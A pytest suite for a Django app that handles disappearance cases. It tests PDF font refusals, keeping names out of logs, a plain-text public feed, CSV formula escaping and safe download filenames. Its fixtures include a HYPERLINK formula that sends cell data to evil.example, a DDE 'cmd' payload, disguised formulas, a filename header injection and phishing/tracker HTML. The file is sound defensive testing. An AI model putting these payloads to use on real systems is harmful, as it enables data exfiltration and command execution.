"""What leaves Habeas in a file or a feed: a PDF never goes out without a name
its fonts cannot draw, and nothing of the case reaches the server's log on the
way; the public feed carries plain text; the partner CSV holds no formulas;
download names are quoted and encoded, whatever the case reference holds."""

from __future__ import annotations

import csv
import io
import logging
import re
import xml.etree.ElementTree as ET
from datetime import date

import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils.http import parse_header_parameters

from habeas.advocacy import render, services
from habeas.advocacy.models import PublicUpdate
from habeas.cases import services as cases
from habeas.cases.models import Case
from habeas.lib.text import formula_escape
from tests.support.advocacy import consent_to_publication
from tests.support.documents import docx_text

# Cuneiform: no font Habeas draws with has it (Chinese has one since the Debian
# font packages are installed: tests/test_documents_pdf_scripts.py).
NO_GLYPH_NAME, NO_GLYPH_PLACE = "𒀭𒂗𒍪", "𒌷𒉈𒆠"


class _Catch(logging.Handler):
    def __init__(self) -> None:
        super().__init__(level=logging.NOTSET)
        self.records: list[logging.LogRecord] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.records.append(record)


@pytest.fixture
def every_log_record():
    """Every record that reaches a handler: the root logger's, and those of the
    loggers that do not pass records up to it (django.request, django.security)."""
    catch = _Catch()
    loggers = [logging.getLogger()] + [
        logger
        for logger in logging.Logger.manager.loggerDict.values()
        if isinstance(logger, logging.Logger) and not logger.propagate
    ]
    for logger in loggers:
        logger.addHandler(catch)
    yield catch.records
    for logger in loggers:
        logger.removeHandler(catch)


def _logged(records: list[logging.LogRecord]) -> str:
    return "\n".join(f"{r.name} {r.getMessage()}" for r in records)


@pytest.fixture
def no_glyph_case(alice, client):
    client.force_login(alice)
    response = client.post(
        "/cases/new/",
        {
            "person_name": NO_GLYPH_NAME,
            "reference": "CN-2026-001",
            "country": "CN",
            "disappeared_on": "2026-01-05",
            "disappeared_place": NO_GLYPH_PLACE,
            "priority": "1",
        },
    )
    assert response.status_code == 302
    return Case.objects.get(reference="CN-2026-001")


def test_a_pdf_that_cannot_draw_the_name_is_refused_saying_where_and_nothing_is_logged(
    no_glyph_case, alice, client, every_log_record
):
    """GIVEN a case whose name and place are in a script the installed fonts lack
    WHEN staff ask for the UN submission and the country's briefing note as PDF
    THEN the PDF is refused, naming the fields and offering the DOCX, which
    carries both; the preview says so up front; no log line holds either."""
    url = reverse("case_document", args=[no_glyph_case.public_id])
    refused = client.get(f"{url}?doc=wgeid&format=pdf")
    assert refused.status_code == 422
    assert refused["Content-Type"].startswith("text/html")
    page = refused.content.decode()
    assert "No PDF of this document" in page
    assert "<li>The disappeared person — Full name</li>" in page
    assert "<li>The disappearance — Place of arrest, abduction or where last seen</li>" in page
    assert "doc=wgeid&amp;format=docx" in page

    docx = client.get(f"{url}?doc=wgeid&format=docx")
    assert docx.status_code == 200
    assert NO_GLYPH_NAME in docx_text(docx.content)
    assert NO_GLYPH_PLACE in docx_text(docx.content)
    preview = client.get(f"{url}?doc=wgeid").content.decode()
    assert "No PDF of this document" in preview
    assert "format=pdf" not in preview  # no link to a PDF that would be refused

    for kind in ("letter", "urgent_action", "ced_urgent_action", "special_procedures"):
        assert client.get(f"{url}?doc={kind}&format=pdf").status_code == 422, kind
    briefing = client.get(reverse("briefing") + "?country=CN&format=pdf")
    assert briefing.status_code == 422
    assert f"{NO_GLYPH_NAME} (CN-2026-001)" in briefing.content.decode()

    logged = _logged(every_log_record)
    for text in (NO_GLYPH_NAME, NO_GLYPH_PLACE, *NO_GLYPH_NAME, *NO_GLYPH_PLACE):
        assert text not in logged


@pytest.fixture
def no_shaping(monkeypatch):
    """A machine without HarfBuzz (uharfbuzz) to lay out right-to-left text."""
    monkeypatch.setattr(render, "shaping", lambda: False)


def test_an_arabic_name_is_not_drawn_unjoined(alice, client, no_shaping):
    person = cases.person_create(name="محمد علي", by=alice)
    case = cases.case_create(reference="SY-2026-001", person=person, country="SY", by=alice)
    client.force_login(alice)
    url = reverse("case_document", args=[case.public_id])
    refused = client.get(f"{url}?doc=wgeid&format=pdf")
    assert refused.status_code == 422
    assert "Full name" in refused.content.decode()
    assert "محمد علي" in docx_text(client.get(f"{url}?doc=wgeid&format=docx").content)


@pytest.mark.parametrize(
    ("name", "place"),
    [("דוד כהן", "תל אביב"), ("ߞߊ߬ߙߊ߲ߡߐ߮", "ߓߡߊߞߐ")],  # Hebrew, N'Ko
    ids=["hebrew", "nko"],
)
def test_a_right_to_left_name_is_not_drawn_backwards(alice, client, no_shaping, name, place):
    """GIVEN a case whose name and place are in a right-to-left script the fonts
    have glyphs for, and no text shaping (the PDF would spell them backwards)
    WHEN staff ask for the UN submission as PDF
    THEN it is refused naming both fields, the preview says so up front, and the
    DOCX carries the name as typed."""
    client.force_login(alice)
    created = client.post(
        "/cases/new/",
        {
            "person_name": name,
            "reference": "IL-2026-001",
            "country": "IL",
            "disappeared_on": "2026-01-05",
            "disappeared_place": place,
            "priority": "1",
        },
    )
    assert created.status_code == 302
    case = Case.objects.get(reference="IL-2026-001")
    url = reverse("case_document", args=[case.public_id])
    refused = client.get(f"{url}?doc=wgeid&format=pdf")
    assert refused.status_code == 422
    page = refused.content.decode()
    assert "<li>The disappeared person — Full name</li>" in page
    assert "<li>The disappearance — Place of arrest, abduction or where last seen</li>" in page
    assert "right-to-left text" in page
    preview = client.get(f"{url}?doc=wgeid").content.decode()
    assert "No PDF of this document" in preview
    assert "format=pdf" not in preview
    assert name in docx_text(client.get(f"{url}?doc=wgeid&format=docx").content)


def test_a_briefing_refusal_names_the_field_that_holds_the_text(alice, client, no_shaping):
    """GIVEN a case whose place, not its date, is in Arabic script — both on one
    line of the briefing note ("Date: …; Place of arrest…: دمشق")
    THEN the refusal names the place."""
    client.force_login(alice)
    created = client.post(
        "/cases/new/",
        {
            "person_name": "Mohammed Ali",
            "reference": "SY-2026-002",
            "country": "SY",
            "disappeared_on": "2026-01-05",
            "disappeared_place": "دمشق",
            "priority": "1",
        },
    )
    assert created.status_code == 302
    refused = client.get(reverse("briefing") + "?country=SY&format=pdf")
    assert refused.status_code == 422
    notice = refused.content.decode().partition('<div class="notice"')[2].partition("</div>")[0]
    places = re.findall(r"<li>(.*?)</li>", notice)
    assert places == ["Mohammed Ali (SY-2026-002) — Place of arrest, abduction or where last seen"]


def test_a_cyrillic_and_latin_case_has_no_gaps(alices_case):
    from habeas.advocacy import documents

    document = documents.wgeid_submission(case=alices_case, language="ru", today=date(2026, 12, 6))
    assert render.pdf_gaps(document) == []
    assert render.to_pdf(document).startswith(b"%PDF")


def test_what_fpdf2_says_about_missing_glyphs_never_reaches_a_log(every_log_record):
    """fpdf2 names the characters its font lacks (premise, checked first with its
    logger opened up); as configured, no record is made at all."""
    from fpdf import FPDF

    def draw() -> None:
        pdf = FPDF()
        pdf.add_font("DejaVu", "", str(render.FONTS / "DejaVuSans.ttf"))
        pdf.add_page()
        pdf.set_font("DejaVu", "", 10)
        pdf.multi_cell(100, 5, f"Full name: {NO_GLYPH_NAME}")
        pdf.output()

    fpdf_logger = logging.getLogger("fpdf")
    configured = fpdf_logger.level
    fpdf_logger.setLevel(logging.WARNING)
    try:
        draw()
    finally:
        fpdf_logger.setLevel(configured)
    assert NO_GLYPH_NAME[0] in _logged(every_log_record)  # the premise

    every_log_record.clear()
    draw()
    assert every_log_record == []


# --- The public feed and the partner export ----------------------------------


@pytest.fixture
def published(alices_case, alice):
    consent_to_publication(alices_case, by=alice)
    return services.public_profile_save(
        case=alices_case,
        name='=HYPERLINK("http://evil.example/?"&A1,"x")',
        name_variants="+SUM(1+1)\nRustam Isakow",
        summary="@SUM(1+1)*cmd|' /C calc'!A0",
        demands="-2+3\nRelease him",
        is_published=True,
        country="TM",
        by=alice,
    )


LIVE_HTML = (
    'Plain text from staff <img src="https://tracker.example/p.gif">'
    '<a href="https://phish.example/">Sign the petition</a>'
)


def test_feed_readers_get_public_updates_as_text_not_live_html(published, alice, client):
    services.public_update_add(
        profile=published, happened_on=date(2021, 10, 21), title="Appeal", text=LIVE_HTML, by=alice
    )
    feed = client.get(reverse("public_feed"))
    assert feed.status_code == 200
    atom = "{http://www.w3.org/2005/Atom}"
    root = ET.fromstring(feed.content)  # noqa: S314 — our own feed, just made
    summaries = root.findall(f"{atom}entry/{atom}summary")
    assert [(s.get("type"), s.text) for s in summaries] == [("text", LIVE_HTML)]
    assert 'type="html"' not in feed.content.decode()


def test_the_partner_csv_holds_no_formula(published):
    out = io.StringIO()
    call_command("export", "public", format="csv", stdout=out)
    (row,) = csv.DictReader(io.StringIO(out.getvalue()))
    assert row["name"] == "'" + published.name
    assert row["name_variants"] == "'+SUM(1+1); Rustam Isakow"
    assert row["summary"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["demands"] == "'-2+3; Release him"
    assert row["country"] == "TM"  # ordinary cells are left as they are
    for cell in row.values():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


@pytest.mark.parametrize("start", ["\t=1+1", "\r=1+1"])
def test_a_cell_starting_with_a_tab_or_carriage_return_is_quoted_too(start):
    assert formula_escape(start) == "'" + start


HIDDEN_FORMULAS = {
    "space": ' =HYPERLINK("http://evil.example/?"&A1,"x")',
    "nul": "\x00=2+3",
    "zero-width space": "\u200b=2+3",
    "newline": "\n@SUM(1+1)",
    "fullwidth equals": '＝HYPERLINK("http://evil.example/")',
    "fullwidth plus": "＋SUM(1+1)",
    "small equals": "﹦2+3",
}


@pytest.mark.parametrize("start", HIDDEN_FORMULAS.values(), ids=HIDDEN_FORMULAS.keys())
def test_a_formula_behind_invisible_or_fullwidth_characters_is_quoted(start):
    assert formula_escape(start) == "'" + start


@pytest.mark.parametrize("text", ["Rustam Isakov", " Release him", "２０２１ ＝ year", ""])
def test_text_that_is_no_formula_is_left_as_it_is(text):
    assert formula_escape(text) == text


def test_the_partner_csv_quotes_a_formula_however_it_is_disguised(published):
    """GIVEN profile text whose formula hides behind a zero-width space or a
    fullwidth equals sign (stored as typed, or by an older version; a NUL, which
    PostgreSQL cannot store, is covered by the test above)
    THEN the partner export quotes it all the same."""
    from habeas.advocacy.models import PublicProfile

    PublicProfile.objects.filter(pk=published.pk).update(
        name=HIDDEN_FORMULAS["fullwidth equals"], summary=HIDDEN_FORMULAS["zero-width space"]
    )
    out = io.StringIO()
    call_command("export", "public", format="csv", stdout=out)
    (row,) = csv.DictReader(io.StringIO(out.getvalue()))
    assert row["name"] == "'" + HIDDEN_FORMULAS["fullwidth equals"]
    assert row["summary"] == "'" + HIDDEN_FORMULAS["zero-width space"]


# --- Download names ----------------------------------------------------------


@pytest.mark.parametrize(
    "reference", ['Q"X; filename=evil.html; x="', "ТМ-2026-001"], ids=["injection", "cyrillic"]
)
@pytest.mark.parametrize("fmt", ["pdf", "docx"])
def test_a_download_is_named_after_its_reference_whatever_the_reference_holds(
    alices_case, alice, client, reference, fmt
):
    alices_case.reference = reference
    alices_case.save()
    client.force_login(alice)
    url = reverse("case_document", args=[alices_case.public_id])
    response = client.get(f"{url}?doc=wgeid&format={fmt}")
    assert response.status_code == 200
    disposition, params = parse_header_parameters(response["Content-Disposition"])
    assert disposition == "attachment"
    assert params == {"filename": f"{reference}-wgeid-en.{fmt}"}


# --- Public updates before there is a profile ---------------------------------


def test_a_public_update_before_any_profile_says_to_clear_one_first(
    alices_case, bob, charlie, client
):
    url = reverse("public_update_add", args=[alices_case.public_id])
    client.force_login(charlie)
    assert client.post(url, {"title": "x"}).status_code == 404
    client.force_login(bob)
    page = client.get(url, follow=True)
    assert page.redirect_chain == [(reverse("publication_edit", args=[alices_case.public_id]), 302)]
    assert "Clear a public profile for this case first." in page.content.decode()
    posted = client.post(url, {"happened_on": "2021-10-21", "title": "Kept title"})
    assert posted.status_code == 400
    body = posted.content.decode()
    assert "Clear a public profile for this case first." in body
    assert 'value="Kept title"' in body
    empty = client.post(url, {})
    assert empty.status_code == 400
    assert "Clear a public profile for this case first." in empty.content.decode()
    assert not PublicUpdate.objects.exists()
